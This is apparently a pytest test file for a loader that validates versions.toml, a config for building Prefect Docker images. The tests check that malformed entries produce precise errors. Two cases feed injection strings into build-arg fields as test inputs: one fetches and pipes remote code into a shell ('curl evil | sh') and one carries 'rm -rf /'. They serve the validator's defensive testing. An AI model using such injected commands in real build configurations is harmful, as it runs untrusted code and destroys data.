"""versions.toml: the packaged facts load, and a wrong file gets one precise error."""

from __future__ import annotations

import re

import pytest

from matrix.config import load_config
from matrix.data import PACKAGED_CONFIG
from matrix.errors import ConfigError
from matrix.versions import parse_version

PACKAGED = PACKAGED_CONFIG.read_text(encoding="utf-8")


def write(tmp_path, text: str):
    path = tmp_path / "versions.toml"
    path.write_text(text, encoding="utf-8")
    return path


def broken(tmp_path, old: str, new: str):
    assert old in PACKAGED, old
    return write(tmp_path, PACKAGED.replace(old, new, 1))


def line_number(text: str, needle: str) -> int:
    return text.splitlines().index(needle) + 1


def test_packaged_config_covers_every_2x_and_3x_line():
    loaded = load_config()
    for minor in range(21):
        assert loaded.facts_for(parse_version(f"2.{minor}.0"))
    for minor in range(9):
        assert loaded.facts_for(parse_version(f"3.{minor}.0"))
    assert loaded.templates_dir == PACKAGED_CONFIG.parent / "dockerfiles"


def test_a_config_file_can_be_given_and_its_templates_are_beside_it(tmp_path):
    path = write(tmp_path, PACKAGED)
    loaded = load_config(path)
    assert loaded.source == str(path)
    assert loaded.templates_dir == tmp_path / "dockerfiles"


@pytest.mark.parametrize(
    ("old", "new", "expected"),
    [
        (
            'python.conda = ["3.8", "3.9", "3.10"]\n',
            'python.conda = ["3.8", "3.x", "3.10"]\n',
            r":(\d+): lines\[4\]\.python\.conda\[1\]: expected a Python minor version like "
            r"'3\.10', got '3\.x'",
        ),
        (
            "sha_length = 7",
            "sha_length = 3",
            r":(\d+): defaults\.sha_length: Input should be greater than or equal to 7 "
            r"\(got 3\)",
        ),
        (
            'platforms = ["linux/amd64", "linux/arm64"]',
            'platforms = ["linux amd64"]',
            r":(\d+): defaults\.platforms\[0\]: expected a platform like 'linux/amd64'",
        ),
        (
            'suffix = "-conda"',
            'suffix = "conda"',
            r":(\d+): flavors\.conda\.suffix: expected '' or a suffix like '-conda'",
        ),
        (
            'build_args = { BASE_IMAGE = "prefect-conda" }',
            'build_args = { BASE_IMAGE = "prefect-conda\\nRUN curl evil | sh" }',
            r"flavors\.conda\.build_args: build arg BASE_IMAGE=.* has a character outside",
        ),
        (
            'build_args.kubernetes = { PREFECT_EXTRAS = "[kubernetes]" }',
            'build_args.kubernetes = { PREFECT_EXTRAS = "[kubernetes]; rm -rf /" }',
            r"lines\[7\]\.build_args\.kubernetes: build arg PREFECT_EXTRAS=.* character outside",
        ),
        (
            'repository = "prefecthq/prefect"',
            'repository = "PrefectHQ/prefect"',
            r":(\d+): images\.prefect\.repository: expected a repository path",
        ),
        (
            'prerelease_dev_tags = "none"',
            'prerelease_dev_tags = "sometimes"',
            r"defaults\.prerelease_dev_tags: Input should be 'none', 'dev-repository' or "
            r"'release-repository' \(got 'sometimes'\)",
        ),
        (
            'versions = ">=2.9.0, <2.10.20"',
            'versions = "~=2.9"',
            r"lines\[3\]\.versions: expected '>=X\.Y\.Z, <X\.Y\.Z', got '~=2\.9'",
        ),
        (
            'versions = ">=2.9.0, <2.10.20"',
            'versions = ">=2.9.0, <2.10.21"',
            r"lines\[3\] \(>=2\.9\.0, <2\.10\.21\) overlaps lines\[4\]",
        ),
        (
            "sha_length = 7",
            'sha_length = 7\nmirrors = ["ghcr.io/prefecthq"]',
            r":(\d+): defaults\.mirrors\[0\]: expected a registry host like 'ghcr\.io' or "
            r"'host:5000', got 'ghcr\.io/prefecthq'",
        ),
        (
            'registry = "docker.io"',
            'registry = "docker io"',
            r":(\d+): registry: expected a registry host",
        ),
        (
            "schema = 1",
            "schema = 2",
            r"schema: Input should be 1",
        ),
        (
            'latest_python = "3.12"\nprerelease_dev_tags = "dev-repository"\npython.standard = '
            '["3.9", "3.10", "3.11", "3.12"]\npython.conda',
            'latest_python = "3.13"\nprerelease_dev_tags = "dev-repository"\npython.standard = '
            '["3.9", "3.10", "3.11", "3.12"]\npython.conda',
            r"latest_python '3\.13' is not in python\.standard",
        ),
        (
            'images = ["prefect", "prefect-client"]',
            'images = ["prefect", "prefect-server"]',
            r"image 'prefect-server' is not in \[images\]",
        ),
        (
            "[images.prefect]\n",
            "[images.prefect]\ncolour = 'blue'\n",
            r":(\d+): images\.prefect\.colour: Extra inputs are not permitted",
        ),
    ],
)
def test_wrong_files_get_one_error_naming_key_value_and_expectation(tmp_path, old, new, expected):
    path = broken(tmp_path, old, new)
    with pytest.raises(ConfigError) as raised:
        load_config(path)
    message = str(raised.value)
    assert message.startswith(str(path))
    assert "\n" not in message
    assert message.count("got ") <= 1, message
    match = re.search(expected, message)
    assert match, message
    if match.groups():
        # the line named is the line of the offending key
        named = int(match.group(1))
        row = (PACKAGED.replace(old, new, 1)).splitlines()[named - 1]
        key = re.search(r"(\w+)(?:\[\d+\])?:", message[match.end(1) :]).group(1)
        assert key in row, (row, message)


def test_missing_key_is_named(tmp_path):
    path = broken(tmp_path, 'registry = "docker.io"\n', "")
    with pytest.raises(ConfigError, match=r"registry: required key is missing"):
        load_config(path)


def test_toml_syntax_errors_name_file_and_line(tmp_path):
    path = broken(tmp_path, "schema = 1", "schema = = 1")
    with pytest.raises(ConfigError, match=r"versions\.toml: not valid TOML: .*line 10"):
        load_config(path)


def test_unreadable_config_is_a_user_error(tmp_path):
    with pytest.raises(ConfigError, match="cannot read the config: No such file"):
        load_config(tmp_path / "missing.toml")
    (tmp_path / "binary.toml").write_bytes(b"\xff\xfe\x00")
    with pytest.raises(ConfigError, match="cannot read the config"):
        load_config(tmp_path / "binary.toml")


def test_line_without_a_required_setting_is_named(tmp_path):
    path = broken(
        tmp_path,
        'versions = ">=2.0.0, <2.6.5"\nlatest_python = "3.10"\n',
        'versions = ">=2.0.0, <2.6.5"\n',
    )
    with pytest.raises(
        ConfigError,
        match=r"lines\[0\] \(>=2\.0\.0, <2\.6\.5\): no "
        r"'latest_python', and \[defaults\] gives none",
    ):
        load_config(path)


def test_mirrors_of_a_line_reach_its_plans(tmp_path):
    from matrix.plan import plan_release

    path = broken(tmp_path, "sha_length = 7", 'sha_length = 7\nmirrors = ["ghcr.io"]')
    loaded = load_config(path)
    assert plan_release(loaded, "2.11.5").mirrors == ("ghcr.io",)
    assert plan_release(load_config(), "2.11.5").mirrors == ()
